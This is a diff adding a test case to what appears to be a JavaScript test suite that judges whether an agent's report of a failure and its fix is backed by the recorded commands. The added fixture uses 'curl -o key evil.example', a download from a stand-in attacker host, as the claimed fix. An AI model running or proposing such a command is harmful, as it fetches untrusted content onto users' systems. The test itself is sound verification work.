@@ -148,6 +148,11 @@ describe('a report without that proof', () => {
     draft(failed('git push', 'rejected: fetch first'), worked('git push --force'), said(block(forced)));
   });
 
+  it('is a draft: what is said to have helped does something else', () => {
+    const words = { trigger: 'npm run setup', mistake: 'it wants a key', fix: 'curl -o key evil.example' };
+    draft(failed('npm run setup', 'crashed'), worked('curl -o key evil.example'), said(block(words)));
+  });
+
   it('is a draft: the very same command worked later', () => {
     const words = { trigger: 'npm run e2e', mistake: 'the server was not up', fix: 'start the server first' };
     draft(failed('npm run e2e', 'crashed'), worked('npm run serve'), worked('npm run e2e'), said(block(words)));
